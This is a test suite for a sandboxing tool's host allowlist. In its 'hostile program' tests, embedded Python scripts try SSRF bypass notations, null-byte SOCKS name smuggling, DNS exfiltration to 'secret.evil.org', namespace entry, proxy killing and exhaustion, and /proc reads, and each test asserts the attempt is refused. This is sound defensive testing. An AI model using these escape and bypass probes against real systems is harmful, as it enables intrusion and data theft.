/** `run --hosts` with real programs and hostile ones, against servers on this machine's loopback addresses. */
import { execFileSync, spawn, spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { type AddressInfo, createServer as createTcpServer } from "node:net";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it, type TestContext } from "vitest";
import type { HostEvent, PolicyEvent } from "../../src/events/event.ts";
import { programFor, reachableFolder, users } from "../support/ordinary-user.ts";
import { patience } from "../support/patience.ts";
import { statusInShell } from "../support/processes.ts";

const folder = reachableFolder("hosts");
chmodSync(folder, 0o777);
const web = join(folder, "web");
const policy = join(folder, "allow-all.ts");
let server: Server;
let port = 0;
/** The requests that have reached the server. */
const seen: string[] = [];

const has = (program: string) => spawnSync("sh", ["-c", `command -v ${program}`]).status === 0;
const mayMakeNetworks = spawnSync("unshare", ["--user", "--net", "true"]).status === 0;

beforeAll(async () => {
  writeFileSync(policy, 'import { allow, policy } from "portcullis";\nexport default policy(() => allow);\n');
  mkdirSync(web, { recursive: true });
  server = createServer((request, response) => {
    seen.push(`${request.headers.host} ${request.url}`);
    const file = join(web, new URL(request.url ?? "/", "http://x").pathname);
    if (request.url === "/") return void response.end("hello\n");
    if (request.url === "/redirected")
      return void response.writeHead(302, { location: "http://169.254.169.254/latest" }).end();
    const found = [file, join(file, "index.html")].find((one) => statSync(one, { throwIfNoEntry: false })?.isFile());
    if (found === undefined) return void response.writeHead(404).end();
    const type = found.endsWith(".html") ? "text/html" : found.endsWith(".json") ? "application/json" : "";
    response.writeHead(200, type === "" ? {} : { "content-type": type }).end(readFileSync(found));
  });
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  port = (server.address() as AddressInfo).port;
});
afterAll(() => server.close());

interface Held {
  readonly status: number;
  readonly out: string;
  readonly error: string;
  readonly events: readonly PolicyEvent[];
  readonly hosts: readonly HostEvent[];
}

let runs = 0;

/** Without npm's, which lead to the cache of the user who runs the tests. */
const ownVariables = Object.fromEntries(Object.entries(process.env).filter(([name]) => !/^npm_/i.test(name)));

for (const { name, uid } of users) {
  describe(`as ${name}`, () => {
    const program = uid === undefined ? [resolve("bin/portcullis")] : programFor(folder);
    const user = program.slice(0, uid === undefined ? 0 : program.indexOf("env"));
    /** In a user namespace that permits no other below it. */
    const withoutNetworks = [
      ...[...user, "unshare", "--user", "--map-root-user", "sh", "-c"],
      ...['echo 0 >/proc/sys/user/max_user_namespaces && exec "$@"', "sh", ...program.slice(user.length)],
    ];
    const home = join(folder, `home-${uid ?? "own"}`);

    /** The test's own servers answer meanwhile. */
    async function held(
      hosts: string,
      words: readonly string[],
      options: readonly string[] = [],
      started: readonly string[] = program,
    ): Promise<Held> {
      const file = join(folder, `events-${uid ?? "own"}-${runs++}`);
      mkdirSync(home, { recursive: true });
      chmodSync(home, 0o777);
      const line = [
        ...started,
        "run",
        ...(options.includes("-p") ? [] : ["-p", policy]),
        "--hosts",
        hosts,
        "--events",
        file,
        ...options,
        "--",
        ...words,
      ];
      const child = spawn("setsid", ["--wait", ...line], {
        cwd: home,
        env: {
          ...ownVariables,
          HOME: home,
          npm_config_cache: join(home, ".npm"),
          TMPDIR: home,
          XDG_CACHE_HOME: join(home, ".cache"),
          GIT_CONFIG_NOSYSTEM: "1",
        },
        stdio: ["ignore", "pipe", "pipe"],
        timeout: patience.command,
        killSignal: "SIGKILL",
      });
      let [out, error] = ["", ""];
      child.stdout.setEncoding("utf8").on("data", (part) => {
        out += part;
      });
      child.stderr.setEncoding("utf8").on("data", (part) => {
        error += part;
      });
      const status = await new Promise<number>((ended) =>
        child.on("close", (code, signal) => ended(statusInShell({ status: code, signal }))),
      );
      const text = existsSync(file) ? readFileSync(file, "utf8") : "";
      const events = text.split("\n").flatMap((one) => (one === "" ? [] : [JSON.parse(one) as PolicyEvent]));
      return { status, out, error, events, hosts: events.filter((one) => one.kind === "host") };
    }

    const shell = (hosts: string, script: string, options?: readonly string[]) =>
      held(hosts, ["sh", "-c", script], options);
    const python = (hosts: string, script: string, ...words: readonly string[]) =>
      held(hosts, ["python3", "-c", script, ...words]);

    function needs(context: TestContext, ...programs: readonly string[]): void {
      if (!mayMakeNetworks) context.skip("this user cannot create a user and a network namespace");
      const reach = uid === undefined ? [] : [...program.slice(0, -1)];
      for (const one of programs) {
        const words = [...reach, "sh", "-c", `cd / && ${one} --version`];
        if (!has(one) || spawnSync(words[0]!, words.slice(1), { env: { ...ownVariables, HOME: home } }).status !== 0)
          context.skip(`no ${one} that this user can run`);
      }
    }

    describe("a permitted host", () => {
      it("is reached by curl through the proxy, through SOCKS, and without variables", async (context) => {
        needs(context, "curl");
        const url = `http://web.localhost:${port}/`;
        const { out, hosts, error } = await shell(
          `web.localhost:${port},localhost:${port}`,
          `curl -sS ${url} && curl -sS -x socks5h://127.0.0.1:3128 ${url} && curl -sS -p -x "$HTTP_PROXY" ${url}
           curl -sS --noproxy '*' ${url}; curl -sS http://localhost:${port}/`,
        );
        expect(error).toContain("hosts: the tree has a network of its own");
        expect(out).toBe("hello\n".repeat(5));
        expect(hosts).toEqual([]);
      });

      it("is reached by git", async (context) => {
        needs(context, "git");
        const work = join(folder, `work-${uid ?? "own"}`);
        const git = (...words: readonly string[]) =>
          execFileSync("git", ["-c", "user.name=a", "-c", "user.email=a@b.c", ...words], { stdio: "pipe" });
        git("init", "-q", work);
        git("-C", work, "commit", "-q", "--allow-empty", "-m", "one");
        git("clone", "-q", "--bare", work, join(web, `repository-${uid ?? "own"}.git`));
        git("-C", join(web, `repository-${uid ?? "own"}.git`), "update-server-info");
        const { out, hosts } = await shell(
          `git.localhost:${port}`,
          `git clone -q http://git.localhost:${port}/repository-${uid ?? "own"}.git clone && git -C clone log --format=%s
           git clone -q http://other.test:${port}/repository.git other 2>/dev/null || echo refused`,
        );
        expect(out).toBe("one\nrefused\n");
        expect(hosts).toEqual([expect.objectContaining({ host: "other.test", rule: "--hosts" })]);
      });

      it("is reached by npm", async (context) => {
        needs(context, "npm", "node");
        const made = join(folder, `package-${uid ?? "own"}`);
        mkdirSync(made, { recursive: true });
        writeFileSync(join(made, "package.json"), '{"name":"held-package","version":"1.0.0"}');
        mkdirSync(join(web, "tarballs"), { recursive: true });
        execFileSync("npm", ["pack", "--silent", "--pack-destination", join(web, "tarballs")], { cwd: made });
        const dist = { tarball: `http://npm.localhost:${port}/tarballs/held-package-1.0.0.tgz` };
        const versions = { "1.0.0": { name: "held-package", version: "1.0.0", dist } };
        mkdirSync(join(web, "registry/held-package"), { recursive: true });
        writeFileSync(
          join(web, "registry/held-package/index.html"),
          JSON.stringify({ name: "held-package", "dist-tags": { latest: "1.0.0" }, versions }),
        );
        const { out, hosts, error } = await shell(
          `npm.localhost:${port}`,
          `npm install --fetch-retries=0 --no-audit --registry http://npm.localhost:${port}/registry held-package >&2 && ls node_modules
           npm view --silent --registry http://evil.test:${port}/ --fetch-retries=0 held-package >&2 || echo refused`,
        );
        expect({ out, error }).toMatchObject({ out: "held-package\nrefused\n" });
        expect(hosts[0]).toMatchObject({ host: "evil.test" });
      });

      it("is reached by Node's fetch", async (context) => {
        needs(context, "node");
        const script = `for (const host of ["web.localhost", "evil.test"])
          await fetch("http://" + host + ":${port}/").then((got) => got.text()).then(console.log, () => console.log("refused"));`;
        const { out, hosts } = await held(`web.localhost:${port}`, ["node", "--input-type=module", "-e", script]);
        expect(out).toMatch(/^hello\n\n(refused|portcullis: .*403|portcullis: evil.*)/);
        expect(hosts[0]).toMatchObject({ host: "evil.test" });
      });

      it("is reached by Python's urllib and by pip", async (context) => {
        needs(context, "python3");
        const wheel = "held_package-1.0.0-py3-none-any.whl";
        mkdirSync(join(web, "simple/held-package"), { recursive: true });
        const make = `import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as file:
  file.writestr("held_package/__init__.py", "")
  file.writestr("held_package-1.0.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: held-package\\nVersion: 1.0.0\\n")
  file.writestr("held_package-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
  file.writestr("held_package-1.0.0.dist-info/RECORD", "")`;
        execFileSync("python3", ["-c", make, join(web, "simple/held-package", wheel)]);
        writeFileSync(join(web, "simple/held-package/index.html"), `<a href="${wheel}">${wheel}</a>`);
        const { out, error } = await shell(
          `packages.localhost:${port}`,
          `python3 -c 'import urllib.request as u; print(u.urlopen("http://packages.localhost:${port}/").read())'
           python3 -m pip --version >/dev/null 2>&1 || { echo no pip; exit; }
           python3 -m pip download -q --disable-pip-version-check --no-deps --trusted-host packages.localhost -i http://packages.localhost:${port}/simple held-package && ls *.whl`,
        );
        expect({ out, error }).toMatchObject({
          out: expect.stringMatching(/^b'hello\\n'\n(no pip|held_package.*whl)\n$/),
        });
      });

      it("has the streams, the status and the signals of the command", async (context) => {
        needs(context);
        expect(await shell("example.org", "exit 7")).toMatchObject({ status: 7 });
        expect(await shell("example.org", "kill -TERM $$")).toMatchObject({ status: 143 });
        const own = uid ?? process.getuid?.();
        expect(await shell("example.org", "id -u; echo $$ >/dev/null; id -ru")).toMatchObject({
          out: `${own}\n${own}\n`,
        });
      });
    });

    it("hosts of a policy and of its bases are held, together with --hosts", async (context) => {
      needs(context, "curl");
      const declaring = join(folder, `declaring-${uid ?? "own"}.ts`);
      writeFileSync(
        declaring,
        `import { allow, parameter, policy } from "portcullis";
const own = parameter.texts("own", { default: ["a.test"] });
const base = policy({ hosts: ["*.site.test", "a.localhost:${port}", "b.localhost:${port}"] }, () => allow);
export default policy({ extends: [base], hosts: ["x.site.test", "a.localhost:${port}", ...own] }, () => allow);
`,
      );
      const script = `for host in a.localhost:${port} b.localhost:${port} x.site.test y.site.test c.localhost; do
        curl -sS -x "$HTTP_PROXY" --noproxy "" -o /dev/null -w "%{http_code} " http://$host/; done`;
      const options = ["-p", declaring, "--set", `own=b.localhost:${port}`];
      const { out, hosts } = await held(`*.site.test,a.localhost:${port}`, ["sh", "-c", script], options);
      // 502: permitted, and no such name exists
      expect(out).toBe("200 403 502 403 403 ");
      expect(hosts.map(({ rule }) => rule?.replace(/^.*\//, ""))).toEqual([
        "--hosts",
        `declaring-${uid ?? "own"}.ts:4:42`,
        "--hosts",
      ]);
    });

    it("names are found at a server of IPv6", async (context) => {
      needs(context, "python3");
      if (process.getuid?.() !== 0) context.skip("only root can mount another resolv.conf");
      const other = join(folder, "resolv.conf");
      writeFileSync(other, "nameserver 2001:db8::53\nnameserver fe80::1%eth0\n");
      const script = "import socket; print(socket.gethostbyname('web.localhost'))";
      const mounted = ["unshare", "--mount", "sh", "-c", `mount --bind ${other} /etc/resolv.conf && exec "$@"`, "sh"];
      const { out } = await held(`web.localhost:${port}`, ["python3", "-c", script], [], [...mounted, ...program]);
      expect(out).toBe("127.1.0.1\n");
    });

    describe("a hostile program", () => {
      it("reaches no other host by any notation, protocol or family", async (context) => {
        needs(context, "python3");
        let reached = 0;
        const victim = createTcpServer((socket) => {
          reached++;
          socket.end("reached");
        });
        await new Promise<void>((ready) => victim.listen(0, "127.0.0.1", ready));
        const target = (victim.address() as AddressInfo).port;
        const script = `
import socket, sys
port, target = int(sys.argv[1]), int(sys.argv[2])
def proxy(data):
  try:
    s = socket.create_connection(("127.0.0.1", 3128), 10)
    s.sendall(data); s.settimeout(10); got = b""
    while True:
      more = s.recv(4096)
      if not more: break
      got += more
    return got
  except OSError as error: return str(error).encode()
for p in (target, port, 443, 80):
  for host in ("127.0.0.1", "[::1]", "169.254.169.254", "0x7f.1", "localhost.", "2130706433", "[::ffff:127.0.0.1]", "0", "127.1", "0.0.0.0"):
    print("CONNECT", proxy(f"CONNECT {host}:{p} HTTP/1.1\\r\\nHost: web.localhost\\r\\n\\r\\n".encode())[:12].decode())
    print("GET", proxy(f"GET http://{host}:{p}/ HTTP/1.1\\r\\nHost: web.localhost:{port}\\r\\nConnection: close\\r\\n\\r\\n".encode())[:12].decode())
  for name in (b"web.localhost\\0.evil.org", b"127.0.0.1\\0web.localhost", b"127.0.0.1", b"localhost", b"web.localhost%00", b"u@web.localhost"):
    got = proxy(b"\\5\\1\\0" + b"\\5\\1\\0\\3" + bytes([len(name)]) + name + p.to_bytes(2, "big"))
    print("SOCKS", got[3:4].hex())
  got = proxy(b"\\5\\1\\0" + b"\\5\\1\\0\\1\\x7f\\0\\0\\1" + p.to_bytes(2, "big"))
  print("SOCKS", got[3:4].hex())
  for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "169.254.169.254"), (socket.AF_INET6, "::ffff:127.0.0.1"), (socket.AF_INET6, "2606:4700::1111")):
    try:
      s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(10); s.connect((host, p)); s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); print("direct", s.recv(100))
    except OSError: print("direct refused")
    try:
      s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.05); s.connect((host, p)); s.send(b"x"); print("datagram", s.recv(100))
    except OSError: print("datagram refused")
for host, query in (("8.8.8.8", b"secret.evil.org"), ("127.0.0.1", b"secret.web.localhost")):
  name = b"".join(bytes([len(one)]) + one for one in query.split(b"."))
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
  try:
    s.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\0\\1\\0\\1", (host, 53)); got = s.recv(512); print("names", got[3] & 15, got[7])
  except OSError: print("names refused")
`;
        const hosts = `web.localhost:${port},web.localhost,web.localhost:${target + 1 > 65_535 ? 1 : target + 1}`;
        const { out, hosts: refused, status } = await python(hosts, script, `${port}`, `${target}`);
        victim.close();
        expect(status).toBe(0);
        const lines = new Set(out.trimEnd().split("\n"));
        const expected = ["CONNECT HTTP/1.1 403", "GET HTTP/1.1 403", "SOCKS 02", "direct refused", "datagram refused"];
        // A connection to the tree's own loopback address stands for the local name that is listed, which is the test's server.
        const extra = [...lines].filter((line) => !expected.includes(line) && !/^names (refused|3 0)$/.test(line));
        expect(extra.filter((line) => !line.startsWith("direct b'HTTP/1.1 "))).toEqual([]);
        expect(reached).toBe(0);
        expect(refused.length).toBeGreaterThan(20);
        expect(refused.every(({ rule, reason }) => rule === "--hosts" || reason !== "")).toBe(true);
      });

      it("that follows a redirection to another host is refused there", async (context) => {
        needs(context, "curl");
        const { out, hosts } = await shell(
          `web.localhost:${port}`,
          `curl -sSL http://web.localhost:${port}/redirected`,
        );
        expect(out).toContain("portcullis: 169.254.169.254:80");
        expect(hosts).toEqual([expect.objectContaining({ host: "169.254.169.254", port: 80, route: "http" })]);
      });

      it("cannot enter another network, and reaches nothing from a new one", async (context) => {
        needs(context, "python3", "unshare");
        const script = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
for pid in sys.argv[1:] + [str(os.getppid()), "1"]:
  for kind in ("user", "net"):
    try: f = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
    except OSError as error: print("unseen"); continue
    print("entered" if libc.setns(f, 0) == 0 else "refused")
try: print("entered" if libc.setns(os.pidfd_open(int(sys.argv[1])), 0x40000000) == 0 else "refused")
except OSError: print("refused")
`;
        const { out } = await python("web.localhost", script, `${process.pid}`);
        expect([...new Set(out.trimEnd().split("\n"))].sort().join()).toMatch(/^refused(,unseen)?$/);
        const fresh = await shell(
          `web.localhost:${port}`,
          `unshare --user --map-root-user --net sh -c 'ip link set lo up; curl -sS -m 5 --noproxy "*" http://127.0.0.1:${port}/; curl -sS -m 5 http://web.localhost:${port}/' 2>&1; true`,
        );
        expect(fresh.out).not.toContain("hello");
      });

      it("that ends the proxy closes its network", async (context) => {
        needs(context, "python3", "curl");
        const script = `
import os, re, signal, subprocess, sys, time
def status(pid, key):
  try: return int(re.search(key + r":\\t(\\d+)", open(f"/proc/{pid}/status").read()).group(1))
  except OSError: return 0
supervisor = status(status(os.getpid(), "PPid"), "PPid")
ended = False
for pid in filter(str.isdigit, os.listdir("/proc")):
  try: words = open(f"/proc/{pid}/cmdline").read()
  except OSError: continue
  if status(pid, "PPid") == supervisor and words.startswith("portcullis-hosts"):
    os.kill(int(pid), signal.SIGTERM); os.kill(int(pid), signal.SIGINT); time.sleep(0.2)
    print("ignores", subprocess.run(["curl", "-sS", "-m", "20", sys.argv[1]], capture_output=True).stdout)
    os.kill(int(pid), signal.SIGKILL); ended = True
time.sleep(0.5)
print(ended, subprocess.run(["curl", "-sS", "-m", "20", sys.argv[1]], capture_output=True).stdout)
`;
        const url = `http://web.localhost:${port}/`;
        const { out, events, status } = await python(`web.localhost:${port}`, script, url);
        expect({ out, status }).toEqual({ out: "ignores b'hello\\n'\nTrue b''\n", status: 0 });
        expect(events).toContainEqual(
          expect.objectContaining({ kind: "notice", text: expect.stringContaining("has ended") }),
        );
      });

      it("that fills the proxy with connections is refused, and the proxy works after it", async (context) => {
        needs(context, "python3", "curl");
        const script = `
import resource, socket, subprocess, sys, time
resource.setrlimit(resource.RLIMIT_NOFILE, (900, 900))
held, got, until = [], b"at first", time.monotonic() + 60
while got and time.monotonic() < until:
  while len(held) < 800:
    s = socket.socket(); s.settimeout(5)
    try: s.connect(("127.0.0.1", 3128)); held.append(s)
    except OSError: s.close(); break
  got = subprocess.run(["curl", "-sS", "-m", "30", sys.argv[1]], capture_output=True).stdout
print("full", got)
for s in held: s.close()
got, until = b"", time.monotonic() + 60
while not got and time.monotonic() < until:
  got = subprocess.run(["curl", "-sS", "-m", "30", sys.argv[1]], capture_output=True).stdout
print("then", got)
`;
        const { out, hosts } = await python(`web.localhost:${port}`, script, `http://web.localhost:${port}/`);
        expect(out).toBe("full b''\nthen b'hello\\n'\n");
        expect(hosts.some(({ reason }) => reason.includes("connections are open"))).toBe(true);
      });

      it("cannot trace a process of its user outside the tree", async (context) => {
        needs(context, "python3");
        const script = `
import os, sys
for name in ("mem", "maps", "environ", "fd"):
  try: open(f"/proc/{sys.argv[1]}/{name}") if name != "fd" else os.listdir(f"/proc/{sys.argv[1]}/fd"); print("reached")
  except OSError: print("refused")
`;
        const { out } = await python("web.localhost", script, `${process.pid}`);
        if (uid !== undefined) expect(out).toBe("refused\n".repeat(4));
        else expect(out).toMatch(/^refused\n/); // root of the tree has CAP_PERFMON nowhere outside
      });
    });

    describe("a tree that can have no network of its own", () => {
      const limited = (hosts: string, script: string, options: readonly string[] = []) =>
        held(hosts, ["sh", "-c", script], options, withoutNetworks);

      it("reaches the hosts by the proxy, and the line at the start says so", async (context) => {
        needs(context, "curl");
        const url = `http://web.localhost:${port}/`;
        const { out, error, hosts } = await limited(
          `web.localhost:${port}`,
          `curl -sS ${url}; curl -sS -x "$ALL_PROXY" ${url}; curl -sS http://evil.test:${port}/`,
        );
        expect(error).toMatch(
          /hosts: the tree reaches the listed hosts only by the proxy at 127\.0\.0\.1:31\d\d, .*namespace/,
        );
        expect(out).toMatch(/^hello\nhello\nportcullis: evil\.test:\d+: no entry permits this host/);
        expect(hosts).toEqual([expect.objectContaining({ host: "evil.test", port, route: "http" })]);
      });

      it("is refused all else with an event", async (context) => {
        needs(context, "curl", "python3");
        const script = `
import socket, sys
def attempt(what, act):
  try: act(); print(what, "reached")
  except OSError as error: print(what, error.errno)
port = int(sys.argv[1])
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET6, "::ffff:127.0.0.1"), (socket.AF_INET, "127.0.0.2")):
  attempt("connect", lambda: socket.socket(family, socket.SOCK_STREAM).connect((host, port)))
  attempt("fast open", lambda: socket.socket(family, socket.SOCK_STREAM).sendto(b"GET /", 0x20000000, (host, port)))
  attempt("send", lambda: socket.socket(family, socket.SOCK_STREAM).sendmsg([b"x"], [], 0x20000000, (host, port)))
  attempt("datagram", lambda: socket.socket(family, socket.SOCK_DGRAM))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12))
attempt("multipath", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))
attempt("route", lambda: socket.socket().setsockopt(0, 4, b"\\x83\\x07\\x04\\x7f\\0\\0\\1\\0"))
`;
        const reachedBefore = seen.length;
        const { out, events } = await held("web.localhost", ["python3", "-c", script, `${port}`], [], withoutNetworks);
        expect(out).not.toContain("reached");
        expect(out.trimEnd().split("\n")).toHaveLength(22);
        expect(seen.length).toBe(reachedBefore);
        expect(events.filter((one) => one.kind === "decision" && one.verdict === "deny").length).toBeGreaterThan(15);
      });
    });

    it("works with a supervisor that follows processes, judges memory and ends the tree", async (context) => {
      needs(context, "curl");
      const url = `http://web.localhost:${port}/`;
      const options = ["--kill-tree", "--timeout", "5min"];
      for (const extra of [[], options, ["--die-with-parent"]]) {
        const { out, status } = await shell(`web.localhost:${port}`, `curl -sS ${url}; (curl -sS ${url})`, extra);
        expect({ out, status }).toEqual({ out: "hello\nhello\n", status: 0 });
      }
    });
  });
}

it("a list with a wrong entry starts nothing", () => {
  for (const [hosts, message] of [
    ["http://a.org", "port"],
    ["a b", "is no name"],
    ["*.com", "top-level domain"],
    ["a.org:99999", "port"],
  ] as const) {
    const { status, stderr } = spawnSync("bin/portcullis", ["run", "-p", policy, "--hosts", hosts, "--", "true"], {
      encoding: "utf8",
    });
    expect({ status, stderr }).toEqual({ status: 125, stderr: expect.stringContaining(message) });
  }
});

it("an audit says that it restricts no hosts", () => {
  const audited = join(folder, "audited.ts");
  const text =
    'import { allow, policy } from "portcullis";\nexport default policy({ hosts: ["a.org"] }, () => allow);\n';
  writeFileSync(audited, text);
  const ran = spawnSync("bin/portcullis", ["run", "--audit", "-p", audited, "--", "true"], { encoding: "utf8" });
  expect(ran.status).toBe(0);
  expect(ran.stderr).toContain("AUDIT: the hosts of the policy are not restricted");
});
